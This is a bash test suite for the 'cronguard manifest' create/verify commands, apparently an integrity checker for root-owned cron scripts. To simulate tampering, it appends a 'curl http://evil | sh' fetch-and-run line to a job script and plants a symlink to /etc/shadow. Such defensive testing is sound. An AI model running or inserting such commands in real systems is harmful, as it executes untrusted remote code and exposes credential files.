#!/bin/bash
# test_manifest_cli.sh - `cronguard manifest create|verify` as an
# administrator uses it: exit codes (0 clean, 1 findings, 2 errors), the
# messages naming each finding, atomic -o, --dirs, the cache, and that
# `sha256sum -c` accepts the manifest.  Needs root (root-owned manifest).
set -u
CRONGUARD=${CRONGUARD:?set CRONGUARD to the built cronguard binary}
if [ "$(id -u)" != 0 ]; then
	echo "SKIP: needs root"
	exit 0
fi
T=$(mktemp -d /tmp/cg-manifest-cli-XXXXXX)
trap 'rm -rf "$T"' EXIT
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }

# expect STATUS GREP-PATTERN -- CMD...: runs CMD, checks exit status and
# that the combined output matches the pattern ('' = no check).
expect() {
	local want=$1 pat=$2 out rc
	shift 3
	out=$("$@" 2>&1)
	rc=$?
	if [ "$rc" != "$want" ]; then
		fail "$* -> exit $rc, want $want"; echo "$out" | sed 's/^/    /'
		return
	fi
	if [ -n "$pat" ] && ! grep -qE -- "$pat" <<<"$out"; then
		fail "$* -> output lacks /$pat/"; echo "$out" | sed 's/^/    /'
	fi
}

J=$T/jobs
M=$T/scripts.sha256
C=$T/cache
mkdir -m 0755 "$J" "$J/daily"
printf '#!/bin/sh\necho backup\n' >"$J/backup.sh"
printf '#!/bin/sh\necho rotate\n' >"$J/daily/rotate.sh"
chmod 0755 "$J/backup.sh" "$J/daily/rotate.sh"

expect 0 'Usage: cronguard manifest create' -- "$CRONGUARD" manifest --help
expect 0 'Exit status' -- "$CRONGUARD" manifest verify --help
expect 2 'create or verify' -- "$CRONGUARD" manifest frob
expect 2 'at least one DIR' -- "$CRONGUARD" manifest create
expect 2 'name the MANIFEST' -- "$CRONGUARD" manifest verify
expect 2 'unknown option' -- "$CRONGUARD" manifest verify "$M" --bogus
expect 2 'No such file' -- "$CRONGUARD" manifest create "$T/missing" -o "$M"
[ -e "$M" ] && fail "a failed create left $M behind"

# create to stdout and to a file give the same manifest
expect 0 '' -- "$CRONGUARD" manifest create "$J" -o "$M"
"$CRONGUARD" manifest create "$J" >"$T/stdout.sha256" 2>/dev/null || fail "create to stdout"
cmp -s "$M" "$T/stdout.sha256" || fail "-o and stdout differ"
[ "$(stat -c %a "$M")" = 644 ] || fail "manifest mode $(stat -c %a "$M"), want 644"
ls "$T" | grep -q '\.tmp\.' && fail "temporary file left behind"
grep -q "^# cronguard: dir $J\$" "$M" || fail "no dir line"
grep -q "^# cronguard: file uid=0 gid=0 mode=0755 $J/daily/rotate.sh\$" "$M" || fail "no file line"

# sha256sum -c accepts it, from any directory
(cd / && sha256sum --strict -c "$M") >/dev/null 2>&1 || fail "sha256sum -c rejected the manifest"

expect 0 '0 findings; 2 files, 2 hashed' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
sleep 0.05
expect 0 '2 files, 0 hashed, 2 from cache \(cache: used' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
expect 0 '2 hashed, 0 from cache \(cache: off\)' -- "$CRONGUARD" manifest verify "$M" --no-cache
[ "$(stat -c '%a %u' "$C")" = "700 0" ] || fail "cache dir is $(stat -c '%a %u' "$C")"
[ "$(stat -c '%a %u' "$C/manifest.cache")" = "600 0" ] || fail "cache is $(stat -c '%a %u' "$C/manifest.cache")"
expect 0 '' -- "$CRONGUARD" manifest verify -q "$M" --cache-dir "$C"
out=$("$CRONGUARD" manifest verify -q "$M" --cache-dir "$C")
[ -z "$out" ] || fail "-q printed '$out'"

# each finding: exit 1 and a line naming the file and what is wrong
echo 'curl http://evil | sh' >>"$J/backup.sh"
expect 1 "^$J/backup.sh: changed: content changed" -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
(cd / && sha256sum -c "$M") >/dev/null 2>&1 && fail "sha256sum -c missed the change"
"$CRONGUARD" manifest create "$J" -o "$M" 2>/dev/null || fail "re-create"

printf 'x\n' >"$J/daily/dropped"
expect 1 "^$J/daily/dropped: new: not listed" -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
rm "$J/daily/dropped"

chmod g+w "$J/daily/rotate.sh"
expect 1 "^$J/daily/rotate.sh: writable: file writable by group" -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
chmod g-w "$J/daily/rotate.sh"

chown 65534 "$J/backup.sh"
expect 1 "^$J/backup.sh: not-root-owned: owned by uid 65534" -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
chown 0 "$J/backup.sh"

ln -s /etc/shadow "$J/daily/peek"
expect 1 "^$J/daily/peek: symlink-out: symlink leaves $J: points to /etc/shadow" -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
rm "$J/daily/peek"

mv "$J/backup.sh" "$T/aside"
expect 1 "^$J/backup.sh: vanished: listed in the manifest but missing" -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
mv "$T/aside" "$J/backup.sh"
expect 0 '0 findings' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"

# --dirs: only those directories; files listed elsewhere do not vanish
mv "$J/backup.sh" "$T/aside"
expect 0 '1 files' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C" --dirs "$J/daily"
expect 1 'vanished' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C" --dirs "$J"
mv "$T/aside" "$J/backup.sh"

# create warns (exit 1) but writes the manifest
chmod o+w "$J/backup.sh"
expect 1 "verify will report these" -- "$CRONGUARD" manifest create "$J" -o "$T/warn.sha256"
[ -s "$T/warn.sha256" ] || fail "create with warnings wrote nothing"
chmod o-w "$J/backup.sh"

# an untrusted manifest is refused: exit 2, never 0
chmod 0666 "$M"
expect 2 'writable by group or others: refusing to trust it' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
chmod 0644 "$M"
ln -s "$M" "$T/link.sha256"
expect 2 'symlink' -- "$CRONGUARD" manifest verify "$T/link.sha256" --cache-dir "$C"
printf 'not a manifest\n' >"$T/bad.sha256"
expect 2 'bad.sha256:1: expected' -- "$CRONGUARD" manifest verify "$T/bad.sha256"

# a clean verification is remembered: the next one only stats
sleep 0.05
"$CRONGUARD" manifest verify "$M" --cache-dir "$C" >/dev/null
expect 0 'unchanged since the last clean verification' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
expect 0 '' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C" --dirs "$J/daily"
expect 0 'unchanged since the last clean verification' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C" --dirs "$J/daily"
cp -p "$J/backup.sh" "$T/orig"
printf 'echo x\n' >>"$J/backup.sh"
expect 1 'backup.sh: changed' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
cat "$T/orig" >"$J/backup.sh"
sleep 0.05

# a tampered cache is ignored, and replaced
rm -f "$C"/verdict-*
"$CRONGUARD" manifest verify "$M" --cache-dir "$C" >/dev/null
chown 65534 "$C/manifest.cache" "$C"/verdict-*
expect 0 'cache: ignored: cache not owned by root' -- "$CRONGUARD" manifest verify "$M" --cache-dir "$C"
[ "$(stat -c %u "$C/manifest.cache")" = 0 ] || fail "tampered cache not replaced"
for v in "$C"/verdict-*; do
	[ "$(stat -c %u "$v")" = 0 ] || fail "tampered verdict $v not replaced"
done

if [ "$fails" != 0 ]; then
	echo "$fails check(s) failed"
	exit 1
fi
echo "all manifest CLI checks passed"
